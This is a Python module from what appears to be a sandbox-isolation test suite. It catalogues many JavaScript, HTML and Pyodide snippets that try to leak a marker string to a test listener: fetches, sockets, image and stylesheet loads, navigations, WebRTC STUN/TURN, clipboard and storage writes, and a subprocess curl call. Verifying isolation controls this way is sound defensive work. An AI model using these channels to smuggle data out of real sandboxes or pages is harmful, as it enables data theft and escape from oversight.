"""The ways: what code in the check's worker, or in its frame's window, might do to send or to keep a mark.

The code of a script has `own` and `other` (addresses that listen: the host of the pages, and a foreign host whose name
is made of the mark), `host` and `port` (that name, and a port of this way's own, TCP and UDP), and `mark`; Python has
the same names. It ends when its attempt has ended. `seen` is the channel by which the control must be seen to let it
through; in the check nothing may arrive by any channel. A way that the control does not let through is unproven.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Literal

Place = Literal["script", "python", "window"]
Seen = Literal["request", "name", "socket", "kept", "told"]
"""An HTTP request; a look-up of a name; a packet or a connection at the way's port; something that another page of
the origin finds afterwards; something that another page is told, or that stands in the clipboard or the top page."""


Room = Literal["together", "late", "frame", "page"]
"""Most are tried together. What would stop or spoil others comes later, one after another; what may take its frame
away has a frame of its own, what may take the page away a page."""


@dataclass(frozen=True)
class Way:
    """One way."""

    name: str
    place: Place
    code: str
    seen: Seen = "request"
    room: Room = "together"


FETCH = "fetch(`${%s}/leak?${mark}`)"
SOCKET = """
  await new Promise((end, fail) => {
    const socket = new WebSocket(`${%s}/leak?${mark}`.replace("http", "ws")%s);
    socket.onopen = end;
    socket.onerror = () => fail(new Error("socket"));
  });
"""
EVENTS = """
  await new Promise((end, fail) => {
    const source = new EventSource(`${%s}/leak?${mark}`);
    source.onopen = end;
    source.onerror = () => { source.close(); fail(new Error("source")); };
  });
"""
XHR = """
  await new Promise((end, fail) => {
    const request = new XMLHttpRequest();
    request.onload = end;
    request.onerror = () => fail(new Error("network"));
    request.open("%s", `${%s}/leak?${mark}`);
    request.send(%s);
  });
"""
XHR_THAT_WAITS = """
      const request = new XMLHttpRequest();
      request.open("GET", `${other}/leak?${mark}`, false);
      request.send();
    """
WORKER_BY_ADDRESS = """
      await new Promise((end, fail) => {
        new Worker(`${own}/leak?${mark}`).onerror = (event) => { event.preventDefault(); fail(new Error("worker")); };
        setTimeout(end, 700);
      });
    """
WITHIN = """
  const text = `%s`;
  await new Promise((end, fail) => {
    const worker = new Worker(%s);
    worker.onmessage = ({ data }) => data === true ? end() : fail(new Error(data));
    worker.onerror = (event) => { event.preventDefault(); fail(new Error("worker")); };
  });
"""
CALLS = "fetch('${other}/leak?${mark}').then(() => postMessage(true), (error) => postMessage(String(error)))"
BLOB = "URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))"
DATA = "'data:text/javascript,' + encodeURIComponent(text)"

# In a worker and in a window alike.
ANYWHERE: dict[str, str | tuple[str, Seen]] = {
    "fetch, own host": "await " + FETCH % "own",
    "fetch, foreign host": "await " + FETCH % "other",
    "fetch, no-cors": "await fetch(`${other}/leak?${mark}`, { mode: 'no-cors' })",
    "fetch, POST that outlives the page": """
      await fetch(`${own}/leak`, { method: "POST", body: mark, keepalive: true });
    """,
    "fetch, a name looked up": ("await fetch(`http://${host}:${port}/`)", "name"),
    "fetch, a port": ("await fetch(`http://127.0.0.1:${port}/`)", "socket"),
    "XMLHttpRequest, own host": XHR % ("GET", "own", ""),
    "XMLHttpRequest, foreign host": XHR % ("POST", "other", "mark"),
    "WebSocket, own host": SOCKET % ("own", ""),
    "WebSocket, foreign host": SOCKET % ("other", ""),
    "WebSocket, mark as protocol": "new WebSocket(own.replace('http', 'ws'), mark); await sleep(700)",
    "WebSocketStream": "await new WebSocketStream(`${own}/leak?${mark}`.replace('http', 'ws')).opened",
    "EventSource, own host": EVENTS % "own",
    "EventSource, foreign host": EVENTS % "other",
    "WebTransport": ("await new WebTransport(`https://127.0.0.1:${port}/`).ready", "socket"),
    "import(), own host": "await import(`${own}/leak?${mark}`)",
    "import(), foreign host": "await import(`${other}/leak?${mark}`)",
    "import() of text that imports": """
      const text = `import "${other}/leak?${mark}"`;
      await import(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    """,
    "import() of data that imports": """
      await import(`data:text/javascript,import ${encodeURIComponent(JSON.stringify(`${other}/leak?${mark}`))}`);
    """,
    "import() of JSON": "await import(`${own}/leak?${mark}`, { with: { type: 'json' } })",
    "a font": "await new FontFace('f', `url('${other}/leak?${mark}')`).load()",
    "wasm by address": "await WebAssembly.compileStreaming(fetch(`${own}/leak?${mark}`))",
    "Cache Storage that fetches": "await (await caches.open('leak')).add(`${own}/leak?${mark}`)",
    "Cache Storage": ("await (await caches.open('leak')).put(`${own}/${mark}`, new Response('x'))", "kept"),
    "IndexedDB": (
        """
      await new Promise((end, fail) => {
        const request = indexedDB.open(mark);
        request.onsuccess = end;
        request.onerror = () => fail(request.error);
      });
    """,
        "kept",
    ),
    "files of the origin": (
        "await (await navigator.storage.getDirectory()).getFileHandle(mark, { create: true })",
        "kept",
    ),
    "storage buckets": ("await navigator.storageBuckets.open(mark)", "kept"),
    "locks": (
        """
      await new Promise((end, fail) => {
        navigator.locks.request(mark, () => { end(); return new Promise(() => {}); }).catch(fail);
      });
    """,
        "kept",
    ),
    "BroadcastChannel": ("new BroadcastChannel('leak').postMessage(mark)", "told"),
    "cookieStore": ("await cookieStore.set(mark, '1')", "kept"),
}

# In a worker too; see Silent in suite.py.
WORKERS: dict[str, str] = {
    "a worker within, from a blob": WITHIN % (CALLS, BLOB),
    "a worker within, from data": WITHIN % (CALLS, DATA),
    "a worker within, a module": WITHIN
    % ("import '${other}/leak?${mark}'; postMessage(true)", BLOB + ", { type: 'module' }"),
    "a worker within, importScripts": WITHIN % ("importScripts('${other}/leak?${mark}'); postMessage(true)", BLOB),
}

# While they last, all else in the worker waits.
WORKER_LATE: dict[str, str | tuple[str, Seen]] = {
    "XMLHttpRequest that waits": XHR_THAT_WAITS,
    "importScripts, own host": "importScripts(`${own}/leak?${mark}`)",
    "importScripts, foreign host": "importScripts(`${other}/leak?${mark}`)",
    "importScripts of a blob that fetches": """
      const text = `importScripts("${other}/leak?${mark}")`;
      importScripts(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    """,
    "importScripts of data that fetches": """
      importScripts(`data:text/javascript,${encodeURIComponent(`fetch("${other}/leak?${mark}")`)}`);
      await sleep(700);
    """,
    **WORKERS,
    "a worker by address": WORKER_BY_ADDRESS,
}
WORKER: dict[str, str | tuple[str, Seen]] = {
    "a script made of a string": "await new Function('url', 'return fetch(url)')(`${own}/leak?${mark}`)",
    "eval": "await (0, eval)(`fetch('${own}/leak?${mark}')`)",
    "a string on a timer": "setTimeout(`fetch('${own}/leak?${mark}')`, 0); await sleep(700)",
    "a file of the origin, written at once": (
        """
      const file = await (await navigator.storage.getDirectory()).getFileHandle(mark, { create: true });
      const handle = await file.createSyncAccessHandle();
      handle.write(new TextEncoder().encode(mark));
      handle.close();
    """,
        "kept",
    ),
    "SharedWorker": "new SharedWorker(`${own}/leak?${mark}`); await sleep(700)",
    "sendBeacon": "navigator.sendBeacon(`${own}/leak?${mark}`)",
    "a service worker": "await navigator.serviceWorker.register(`${own}/leak?${mark}`)",
    "RTCPeerConnection": ("new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })", "socket"),
    "fetchLater": "fetchLater(`${own}/leak?${mark}`, { activateAfter: 0 }); await sleep(700)",
    "window.open": "open(`${own}/leak?${mark}`)",
}

PUT = "const put = (text) => document.body.insertAdjacentHTML('beforeend', text);"
ELEMENTS: dict[str, str] = {
    "<img>": "<img src='${other}/leak?${mark}'>",
    "<img>, own host": "<img src='${own}/leak?${mark}'>",
    "<img srcset>": "<img srcset='${other}/leak?${mark} 1x'>",
    "<picture>": "<picture><source srcset='${other}/leak?${mark}'><img></picture>",
    "<input type=image>": "<input type=image src='${other}/leak?${mark}'>",
    "<table background>": "<table background='${other}/leak?${mark}'><tr><td>x</table>",
    "<video src>": "<video src='${other}/leak?${mark}' preload=auto></video>",
    "<video poster>": "<video poster='${other}/leak?${mark}'></video>",
    "<audio src>": "<audio src='${other}/leak?${mark}' preload=auto></audio>",
    "<video><source>": "<video preload=auto><source src='${other}/leak?${mark}' type='video/webm'></video>",
    "<video><track>": "<video><track src='${own}/leak?${mark}' kind=subtitles default></video>",
    "<embed>": "<embed src='${other}/leak?${mark}' type='text/html' width=9 height=9>",
    "<object>": "<object data='${other}/leak?${mark}' type='text/html' width=9 height=9></object>",
    "<iframe src>": "<iframe src='${other}/leak?${mark}'></iframe>",
    "<iframe src>, own host": "<iframe src='${own}/leak?${mark}'></iframe>",
    "<iframe src>, data": "<iframe src='data:text/html,<img src=${other}/leak?${mark}>'></iframe>",
    "<iframe srcdoc> with an image": "<iframe srcdoc='<img src=${other}/leak?${mark}>'></iframe>",
    "<iframe srcdoc> with a script": """
      <iframe srcdoc='<script>fetch(&quot;${other}/leak?${mark}&quot;)</script>'></iframe>
    """,
    "<iframe srcdoc> that goes elsewhere": """
      <iframe srcdoc='<meta http-equiv=refresh content="0;url=${other}/leak?${mark}">'></iframe>
    """,
    "<iframe sandbox>": "<iframe sandbox='allow-scripts allow-same-origin' src='${other}/leak?${mark}'></iframe>",
    "<svg><image>": "<svg><image href='${other}/leak?${mark}' width=9 height=9 /></svg>",
    "<svg><use>": "<svg><use href='${own}/leak?${mark}#x' /></svg>",
    "<svg><feImage>": """
      <svg><filter id='f'><feImage href='${other}/leak?${mark}' /></filter>
      <rect width=9 height=9 filter='url(#f)' /></svg>
    """,
    "<style> with a background": "<style>#host { background: url('${other}/leak?${mark}') }</style>",
    "<style> with @import": "<style>@import '${other}/leak?${mark}';</style>",
    "<style> with @font-face": """
      <style>@font-face { font-family: leak; src: url('${other}/leak?${mark}') }</style><p style='font-family: leak'>x
    """,
    "style=": "<p style='background: url(${other}/leak?${mark})'>x</p>",
    "<link rel=stylesheet>": "<link rel=stylesheet href='${other}/leak?${mark}'>",
    "<link rel=icon>": "<link rel=icon href='${own}/leak?${mark}'>",
    "<link rel=preload>": "<link rel=preload as=image href='${other}/leak?${mark}'>",
    "<link rel=prefetch>": "<link rel=prefetch href='${own}/leak?${mark}'>",
    "<link rel=modulepreload>": "<link rel=modulepreload href='${other}/leak?${mark}'>",
    "<link rel=prerender>": "<link rel=prerender href='${own}/leak?${mark}'>",
    "<link rel=manifest>": "<link rel=manifest href='${own}/leak?${mark}'>",
    "<link rel=next>": "<link rel=next href='${own}/leak?${mark}'>",
    "<base> and a relative image": "<base href='${other}/'><img src='leak?${mark}'>",
    "<meta> with a report address": """
      <meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri ${own}/leak?${mark}"><img src=/x>
    """,
}
NAMES: dict[str, str] = {
    "<link rel=dns-prefetch>": "<link rel=dns-prefetch href='//${host}'>",
    "<link rel=preconnect>": "<link rel=preconnect href='http://${host}:${port}'>",
    "<a>, not pressed": "<a href='http://${host}:${port}/'>x</a>",
}
GOING = "setTimeout(() => { %s }, 0); await sleep(900)"
ANCHOR = """
  const link = document.body.appendChild(document.createElement('a'));
  link.href = `${%s}/leak?${mark}`; link.textContent = 'x'; %s link.click();
"""
FORM = """
  const form = document.body.appendChild(document.createElement('form'));
  form.action = `${%s}/leak`; form.append(Object.assign(document.createElement('input'), { name: 'q', value: mark }));
  %s
"""
# What may take the frame away.
LEAVING: dict[str, str] = {
    "location =": "location = `${other}/leak?${mark}`",
    "location =, own host": "location = `${own}/leak?${mark}`",
    "location.assign": "location.assign(`${other}/leak?${mark}`)",
    "location.replace": "location.replace(`${other}/leak?${mark}`)",
    "navigation.navigate": "navigation.navigate(`${other}/leak?${mark}`)",
    "<a> pressed": ANCHOR % ("other", ""),
    "<a> pressed, own host": ANCHOR % ("own", ""),
    "<a target=_blank>": ANCHOR % ("other", "link.target = '_blank';"),
    "<a download>": ANCHOR % ("own", "link.download = 'x';"),
    "<a ping>": ANCHOR % ("own", "link.ping = link.href; link.href = 'about:blank';"),
    "<a ping>, empty address": ANCHOR % ("own", "link.ping = link.href; link.href = 'javascript:void 0';"),
    "<svg><a>": """
      document.body.insertAdjacentHTML('beforeend', `<svg><a href="${other}/leak?${mark}"><text>x</text></a></svg>`);
      document.body.lastElementChild.firstElementChild.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    """,
    "<area>": """
      document.body.insertAdjacentHTML('beforeend', `<map name=m><area href="${other}/leak?${mark}"></map>`);
      document.querySelector('area').click();
    """,
    "<meta http-equiv=refresh>": """
      document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content="0;url=${other}/leak?${mark}">`);
    """,
    "<form> GET": FORM % ("other", "form.submit();"),
    "<form> POST": FORM % ("own", "form.method = 'post'; form.submit();"),
    "<form target=_blank>": FORM % ("other", "form.target = '_blank'; form.submit();"),
    "<button formaction>": FORM
    % (
        "own",
        """
      const button = form.appendChild(document.createElement('button'));
      form.action = ''; button.formAction = `${own}/leak`; button.click();
    """,
    ),
    "window.open": "open(`${other}/leak?${mark}`)",
    "window.open, noopener": "open(`${other}/leak?${mark}`, '_blank', 'noopener')",
    "window.open, the frame itself": "open(`${other}/leak?${mark}`, '_self')",
    "window.open, a blank page that fetches": """
      const page = open(); page.document.write(`<img src="${other}/leak?${mark}">`);
    """,
    "javascript: address": "location = `javascript:void fetch('${other}/leak?${mark}')`",
    "blob: page": """
      location = URL.createObjectURL(new Blob([`<img src="${other}/leak?${mark}">`], { type: 'text/html' }));
    """,
    "document.write": "document.open(); document.write(`<img src='${other}/leak?${mark}'>`); document.close();",
}
# What may take the page away.
TAKING: dict[str, str] = {
    "<a target=_top>": ANCHOR % ("other", "link.target = '_top';"),
    "<a target=_parent>": ANCHOR % ("other", "link.target = '_parent';"),
    "<form target=_top>": FORM % ("other", "form.target = '_top'; form.submit();"),
    "window.open, the top page": "open(`${other}/leak?${mark}`, '_top')",
    "top.location =": "top.location = `${other}/leak?${mark}`",
    "parent.location.replace": "parent.location.replace(`${other}/leak?${mark}`)",
    # The last: the observer, who is the opener, goes with it.
    "opener's location =": "top.opener.location = `${other}/leak?${mark}`",
}
RTC = """
  // The frame's script has deleted it; a child frame would give it back.
  let Peer = self.RTCPeerConnection;
  for (const how of ['', 'srcdoc="<p>x"', 'src="data:text/html,x"', 'src="javascript:0"']) {
    if (Peer) break;
    document.body.insertAdjacentHTML('beforeend', `<iframe ${how}></iframe>`);
    try { Peer = document.body.lastElementChild.contentWindow.RTCPeerConnection; } catch {}
  }
  const peer = new Peer({ iceServers: [%s] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  self.kept = peer;
  await sleep(1200);
"""

WINDOW: dict[str, str | tuple[str, Seen]] = {
    **{name: f"{PUT} put(`{text.strip()}`); await sleep(700)" for name, text in ELEMENTS.items()},
    **{name: (f"{PUT} put(`{text}`); await sleep(700)", "name") for name, text in NAMES.items()},
    "XMLHttpRequest that waits": XHR_THAT_WAITS,
    "a worker by address": WORKER_BY_ADDRESS,
    "new Image": "new Image().src = `${other}/leak?${mark}`; await sleep(700)",
    "a style set by script": """
      document.getElementById('host').style.borderImage = `url('${other}/leak?${mark}') 1`; await sleep(700);
    """,
    "a style sheet made by script": """
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background-image: url("${other}/leak?${mark}") }`);
      document.adoptedStyleSheets.push(sheet);
      await sleep(700);
    """,
    "<script src>": """
      document.body.append(Object.assign(document.createElement('script'), { src: `${other}/leak?${mark}` }));
      await sleep(700);
    """,
    "<script> made by script": """
      const text = `fetch('${other}/leak?${mark}')`;
      document.body.append(Object.assign(document.createElement('script'), { text }));
      await sleep(700);
    """,
    "<script type=module>": """
      const text = `import '${other}/leak?${mark}'`;
      document.body.append(Object.assign(document.createElement('script'), { type: 'module', text }));
      await sleep(700);
    """,
    "<svg><script>": """
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.setAttribute('href', `${other}/leak?${mark}`);
      document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(script);
      await sleep(700);
    """,
    "<script type=speculationrules>": """
      const rule = { source: 'list', urls: [`${own}/leak?${mark}`], eagerness: 'immediate' };
      const text = JSON.stringify({ prefetch: [rule] });
      document.body.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text }));
      await sleep(700);
    """,
    "onerror=": f"{PUT} put(`<img src='x:' onerror='fetch(\"${{other}}/leak?${{mark}}\")'>`); await sleep(700)",
    "a style sheet in a document made by XSLT": """
      const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
      const sheet = `<s:stylesheet version="1.0" xmlns:s="http://www.w3.org/1999/XSL/Transform">
        <s:import href="${own}/leak?${mark}"/></s:stylesheet>`;
      new XSLTProcessor().importStylesheet(parse(sheet));
      await sleep(700);
    """,
    "sendBeacon, own host": "navigator.sendBeacon(`${own}/leak?${mark}`); await sleep(500)",
    "sendBeacon, foreign host": "navigator.sendBeacon(`${other}/leak`, mark); await sleep(500)",
    "fetchLater": "fetchLater(`${own}/leak?${mark}`, { activateAfter: 0 }); await sleep(700)",
    "SharedWorker by address": "new SharedWorker(`${own}/leak?${mark}`); await sleep(700)",
    "SharedWorker from a blob": f"""
      const text = `fetch('${{other}}/leak?${{mark}}')`;
      new SharedWorker({BLOB}); await sleep(700);
    """,
    "a service worker": "await navigator.serviceWorker.register(`${own}/leak?${mark}`)",
    "an audio worklet": "await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${other}/leak?${mark}`)",
    "a paint worklet": "await CSS.paintWorklet.addModule(`${other}/leak?${mark}`)",
    "a notification": "new Notification('x', { icon: `${own}/leak?${mark}` }); await sleep(700)",
    "PaymentRequest": """
      await new PaymentRequest([{ supportedMethods: `${own}/leak?${mark}` }],
        { total: { label: 'x', amount: { currency: 'CNY', value: '1' } } }).canMakePayment();
    """,
    "FedCM": """
      const provider = { configURL: `${own}/leak?${mark}`, clientId: 'x' };
      await navigator.credentials.get({ identity: { providers: [provider] } });
    """,
    "localStorage": ("localStorage.setItem(mark, '1')", "kept"),
    "sessionStorage": ("sessionStorage.setItem(mark, '1')", "kept"),
    "document.cookie": ("document.cookie = `${mark}=1`", "kept"),
    "message to the opener": ("top.opener.postMessage(mark, '*')", "told"),
    "message to a page beside it": ("top.opener.frames.length; open('', 'observer').postMessage(mark, '*')", "told"),
    "the top page's name": ("top.name += mark", "told"),
    "the top page's title": ("top.document.title += mark", "told"),
    "the top page's history": ("top.history.pushState(null, '', `#${mark}`)", "told"),
    "the clipboard, by command": (
        """
      self.focus();
      await sleep(100);
      document.addEventListener('copy', (event) => {
        event.preventDefault();
        event.clipboardData.setData('text/plain', mark);
      }, { once: true });
      if (!document.execCommand('copy')) throw new Error('refused');
    """,
        "told",
    ),
    "WebRTC, STUN": (RTC % "{ urls: `stun:127.0.0.1:${port}` }", "socket"),
    "WebRTC, STUN by name": (RTC % "{ urls: `stun:${host}:${port}` }", "name"),
    "WebRTC, TURN": (RTC % "{ urls: `turn:127.0.0.1:${port}`, username: mark, credential: mark }", "socket"),
    "WebRTC, TURN over TCP": (
        RTC % "{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: mark, credential: mark }",
        "socket",
    ),
}
WINDOW_LATE: dict[str, str | tuple[str, Seen]] = {
    "the clipboard": ("self.focus(); await sleep(100); await navigator.clipboard.writeText(mark)", "told"),
    "the top page's address": ("top.location.hash = mark; await sleep(300)", "told"),
}

# Not here: a lazy file of Emscripten's (an XMLHttpRequest that waits) and its call to eval; refused, they end Pyodide.
PYTHON: dict[str, str | tuple[str, Seen]] = {
    "pyfetch": """
from pyodide.http import pyfetch
await pyfetch(f"{own}/leak?{mark}")
""",
    "pyfetch, foreign host": """
from pyodide.http import pyfetch
await pyfetch(f"{other}/leak", method="POST", body=mark)
""",
    "open_url": """
from pyodide.http import open_url
open_url(f"{own}/leak?{mark}")
""",
    "pyxhr": """
from pyodide.http import pyxhr
pyxhr.get(f"{own}/leak?{mark}")
""",
    "js.fetch": """
import js
await js.fetch(f"{other}/leak?{mark}")
""",
    "js.fetch, a name looked up": (
        """
import js
await js.fetch(f"http://{host}:{port}/")
""",
        "name",
    ),
    "js.XMLHttpRequest": """
import js
request = js.XMLHttpRequest.new()
request.open("GET", f"{own}/leak?{mark}", False)
request.send()
""",
    "js.WebSocket": """
import asyncio, js
js.WebSocket.new(f"{own}/leak?{mark}".replace("http", "ws"))
await asyncio.sleep(0.7)
""",
    "js.EventSource": """
import asyncio, js
source = js.EventSource.new(f"{own}/leak?{mark}")
await asyncio.sleep(3)
source.close()
""",
    "js.WebTransport": (
        """
import js
await js.WebTransport.new(f"https://127.0.0.1:{port}/").ready
""",
        "socket",
    ),
    "js.importScripts": """
import js
js.importScripts(f"{own}/leak?{mark}")
""",
    "js.FontFace": """
import js
await js.FontFace.new("f", f"url('{other}/leak?{mark}')").load()
""",
    "js.WebAssembly": """
import js
await js.WebAssembly.compileStreaming(js.fetch(f"{own}/leak?{mark}"))
""",
    "js.BroadcastChannel": (
        """
import js
js.BroadcastChannel.new("leak").postMessage(mark)
""",
        "told",
    ),
    "js.indexedDB": (
        """
import asyncio, js
js.indexedDB.open(mark)
await asyncio.sleep(0.7)
""",
        "kept",
    ),
    "js.caches": (
        """
import js
await (await js.caches.open("leak")).put(f"{own}/{mark}", js.Response.new("x"))
""",
        "kept",
    ),
    "js.navigator.storage": (
        """
import js
from pyodide.ffi import to_js
folder = await js.navigator.storage.getDirectory()
await folder.getFileHandle(mark, to_js({"create": True}, dict_converter=js.Object.fromEntries))
""",
        "kept",
    ),
    "js.navigator.locks": (
        """
import asyncio, js
from pyodide.ffi import create_proxy
js.navigator.locks.request(mark, create_proxy(lambda lock: js.Promise.new(create_proxy(lambda end, fail: None))))
await asyncio.sleep(0.3)
""",
        "kept",
    ),
    "run_js": """
from pyodide.code import run_js
await run_js(f"fetch('{own}/leak?{mark}')")
""",
    "js.eval": """
import js
await js.eval(f"fetch('{own}/leak?{mark}')")
""",
    "js.Function": """
import js
await js.Function.new(f"return fetch('{own}/leak?{mark}')")()
""",
    "a function's constructor": """
import js
await js.fetch.constructor(f"return fetch('{own}/leak?{mark}')")()
""",
    "js.setTimeout with a string": """
import asyncio, js
js.setTimeout(f"fetch('{own}/leak?{mark}')", 0)
await asyncio.sleep(0.7)
""",
    "fetch of the prototype": """
import js
fetch = js.Reflect.get(js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)), "fetch", js.self)
await js.Reflect.apply(fetch, js.self, [f"{other}/leak?{mark}"])
""",
    "loadPackage": """
import pyodide_js
await pyodide_js.loadPackage(f"{own}/{mark}x-1.0-py3-none-any.whl")
""",
    "a package index by import": """
import pyodide_js
await pyodide_js.loadPackage([f"{other}/{mark}y-1.0-py3-none-any.whl"])
""",
    "a file system in IndexedDB": (
        """
import asyncio, js, pyodide_js
from pyodide.ffi import create_once_callable
FS = pyodide_js.FS
FS.mkdir(f"/{mark}")
FS.mount(FS.filesystems.IDBFS, js.Object.new(), f"/{mark}")
open(f"/{mark}/x", "w").write(mark)
FS.syncfs(False, create_once_callable(lambda error: None))
await asyncio.sleep(0.7)
""",
        "kept",
    ),
    "socket.getaddrinfo": (
        """
import socket
socket.getaddrinfo(host, port)
""",
        "name",
    ),
    "asyncio streams": (
        """
import asyncio
await asyncio.open_connection("127.0.0.1", port)
""",
        "socket",
    ),
    "webbrowser": """
import webbrowser
webbrowser.open(f"{own}/leak?{mark}")
""",
    "a child process": """
import subprocess
subprocess.run(["curl", f"{own}/leak?{mark}"])
""",
}
# A socket is made of a WebSocket, of which Chromium opens one after another.
PYTHON_LATE: dict[str, str | tuple[str, Seen]] = {
    "a socket": (
        """
import asyncio, socket
connection = socket.socket()
connection.setblocking(False)
connection.connect_ex(("127.0.0.1", port))
await asyncio.sleep(1)
""",
        "socket",
    ),
    "a socket, datagram": (
        """
import asyncio, socket
connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
connection.setblocking(False)
connection.sendto(mark.encode(), ("127.0.0.1", port))
await asyncio.sleep(1)
""",
        "socket",
    ),
    "urllib": (
        """
import asyncio, socket, urllib.request
socket.socket.close = lambda self: None
try:
    urllib.request.urlopen(f"http://127.0.0.1:{port}/leak?{mark}", timeout=1)
finally:
    await asyncio.sleep(1)
""",
        "socket",
    ),
    "http.client": (
        """
import asyncio, http.client, socket
socket.socket.close = lambda self: None
try:
    http.client.HTTPConnection("127.0.0.1", port, timeout=1).request("GET", f"/leak?{mark}")
finally:
    await asyncio.sleep(1)
""",
        "socket",
    ),
    "js.Worker from a blob": """
import asyncio, js
text = f"fetch('{other}/leak?{mark}')"
js.Worker.new(js.URL.createObjectURL(js.Blob.new([text]))).onerror = lambda event: event.preventDefault()
await asyncio.sleep(1)
""",
    "js.Worker by address": """
import asyncio, js
js.Worker.new(f"{own}/leak?{mark}").onerror = lambda event: event.preventDefault()
await asyncio.sleep(1)
""",
}


def _ways(place: Place, table: Mapping[str, str | tuple[str, Seen]], room: Room = "together") -> list[Way]:
    full = {name: (entry, "request") if isinstance(entry, str) else entry for name, entry in table.items()}
    return [Way(name, place, code, seen, room) for name, (code, seen) in full.items()]  # type: ignore[arg-type]


WAYS = (
    *_ways("script", {**ANYWHERE, **WORKER}),
    *_ways("script", WORKER_LATE, "late"),
    *_ways("python", PYTHON),
    *_ways("python", PYTHON_LATE, "late"),
    *_ways("window", {**ANYWHERE, **WORKERS, **WINDOW}),
    *_ways("window", WINDOW_LATE, "late"),
    *_ways("window", {name: GOING % code.strip() for name, code in LEAVING.items()}, "frame"),
    *_ways("window", {name: GOING % code.strip() for name, code in TAKING.items()}, "page"),
)
